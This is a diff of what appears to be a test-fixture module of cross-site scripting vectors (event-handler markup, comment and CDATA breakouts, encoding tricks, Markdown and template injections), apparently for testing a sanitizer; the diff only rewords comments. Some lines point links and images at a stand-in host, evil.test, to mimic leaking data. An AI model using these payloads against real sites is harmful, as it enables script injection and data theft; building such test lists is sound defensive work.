@@ -1,6 +1,6 @@
-// Markup that runs a script or asks a server where a page takes it for its own. `alert` is what fires.
+// Markup that runs a script or sends a request if a page treats it as its own. Success calls `alert`.
 
-/** Elements whose events fire by themselves, or soon do. */
+/** Elements whose events fire by themselves, at once or soon. */
 const ELEMENTS = [
   '<img src=x onerror=alert(1)>', '<IMG SRC=x OnErRoR="alert(1)">', '<img/src=x/onerror=alert(1)>', '<img src=x onerror\n=\nalert(1)>',
   '<image src=x onerror=alert(1)>', '<img src="x` `<script>alert(1)</script>"` `>', '<img srcset=x onerror=alert(1)>',
@@ -32,7 +32,7 @@ const ELEMENTS = [
   '<a href=//evil.test/leak.png ping=//evil.test/leak.png>x</a>', '<map><area href="javascript:alert(1)"></map>', '<plaintext><img src=x onerror=alert(1)>',
 ];
 
-/** Comments, sections and encodings that end otherwise than they seem to. */
+/** Comments, sections and encodings that end elsewhere than they seem to. */
 const DISGUISED = [
   '<!--<img src="--><img src=x onerror=alert(1)//">', '<![<img src="]><img src=x onerror=alert(1)//">', '<comment><img src="</comment><img src=x onerror=alert(1)//">',
   '<![CDATA[><img src=x onerror=alert(1)>]]>', '<?xml-stylesheet href="javascript:alert(1)"?>', '<?php echo "<img src=x onerror=alert(1)>" ?>',
@@ -40,7 +40,7 @@ const DISGUISED = [
   '\u{feff}<img src=x onerror=alert(1)>', '<\u0000img src=x onerror=alert(1)>', '\u{202e}<img src=x onerror=alert(1)>', '<img src=x onerror="&#97;lert(1)">',
 ];
 
-/** Words of other languages that a viewer may render: Markdown, templates, terminals. */
+/** Text in other languages that a viewer may render: Markdown, templates, terminals. */
 const RENDERED = [
   '[x](javascript:alert(1))', '![x](javascript:alert(1))', '![x](http://evil.test/leak.png)', '[x]: javascript:alert(1)\n[x]', '<javascript:alert(1)>',
   '{{constructor.constructor("alert(1)")()}}', '${alert(1)}', '<%= alert(1) %>', '{% raw %}<img src=x onerror=alert(1)>{% endraw %}',
@@ -48,5 +48,5 @@ const RENDERED = [
   '$\\href{javascript:alert(1)}{x}$', '<img src=x onerror=alert(1)>'.repeat(50), `${'<b>'.repeat(500)}<img src=x onerror=alert(1)>`,
 ];
 
-/** All of them. */
+/** All vectors. */
 export const VECTORS = [...ELEMENTS, ...DISGUISED, ...RENDERED];
